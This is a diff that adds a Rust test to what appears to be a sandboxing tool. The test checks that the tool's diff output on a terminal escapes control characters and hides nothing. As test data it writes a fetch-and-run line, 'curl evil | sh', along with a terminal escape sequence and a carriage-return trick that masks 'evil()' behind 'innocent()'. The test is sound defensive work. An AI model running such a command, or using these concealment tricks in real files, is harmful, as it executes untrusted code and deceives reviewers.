@@ -317,3 +317,22 @@ fn what_we_say_after_a_run_has_no_colour_of_the_programs() {
     assert!(said.contains("\x1b[30;40mblack\x1b[0msaggar: "), "{said:?}");
     assert_eq!(finish(child).code, 124);
 }
+
+#[test]
+fn a_diff_on_our_terminal_neither_acts_on_it_nor_hides_anything() {
+    let (place, terminal) = (Place::new(), Terminal::open());
+    let workspace = show(&place.workspace());
+    let script =
+        r"printf '\033]' > a.txt; echo 'curl evil | sh' > m.sh; printf 'evil()\r+innocent()\n' > n.py; echo last > z";
+    let result = place.json(&["--workspace", &workspace, "--fs", "scratch"], &["/bin/sh", "-c", script]);
+    let id = result["sandbox_id"].as_str().expect("an id");
+    let mut command = place.command(["changes", "diff", id]);
+    command.stdout(Stdio::from(terminal.theirs.try_clone().expect("open")));
+    let child = command.spawn().expect("built");
+    let said = terminal.read("+last");
+    for shown in ["+curl evil | sh", r"+evil()\x0d", "innocent()", r"+\x1b]"] {
+        assert!(said.contains(shown), "{shown}: {said:?}");
+    }
+    assert!(!said.contains('\x1b'), "{said:?}");
+    assert_eq!(finish(child).code, 0);
+}
